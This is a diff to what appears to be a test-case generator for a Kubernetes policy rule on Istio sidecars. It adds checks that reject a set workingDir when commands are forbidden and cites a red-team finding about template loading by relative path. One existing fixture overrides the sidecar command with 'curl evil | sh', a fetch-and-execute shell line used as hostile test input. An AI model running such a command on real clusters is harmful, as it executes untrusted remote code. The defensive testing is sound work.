@@ -37,6 +37,11 @@ def cases(p, kit):
     name = side["name"]
     if side["forbidCommand"]:
         kit.pod("command_override", "command-set", lambda pod: kit.sidecar(pod, name).update(command=["/bin/sh", "-c", "curl evil | sh"]))
+        # pilot-agent reads its bootstrap template by a relative path: in a folder the pod can fill, it runs the author's (red team 15a).
+        kit.pod("working_dir_set", "working-dir-set", lambda pod: kit.sidecar(pod, name).update(workingDir="/var/lib/istio/data"))
+        kit.pod("working_dir_root", "working-dir-set", lambda pod: kit.sidecar(pod, name).update(workingDir="/"))
+        kit.pod("working_dir_empty", False, lambda pod: kit.sidecar(pod, name).update(workingDir=""))
+        kit.pod("working_dir_not_a_string", "working-dir-set", lambda pod: kit.sidecar(pod, name).update(workingDir=["/tmp"]))
     if side["checkArgs"] and side["argsPrefix"]:
         kit.pod("args_replaced", "args-prefix", lambda pod: kit.sidecar(pod, name).update(args=["--evil"]))
         kit.pod("args_prefix_shifted", "args-prefix", lambda pod: kit.sidecar(pod, name).update(args=["--evil", *side["argsPrefix"]]))
@@ -126,6 +131,7 @@ RULE = Rule(
                   SIDECAR_CATEGORY, "high", POD),
     checks={
         "command-set": "command is set while commandAllowed is false",
+        "working-dir-set": "workingDir is set while commandAllowed is false: the entrypoint would run elsewhere than the image's working directory",
         "args-prefix": "args do not start with the approved prefix",
         "env-pinned-missing": "a pinned env variable is missing",
         "env-pinned-mismatch": "a pinned env variable has another value or a valueFrom",
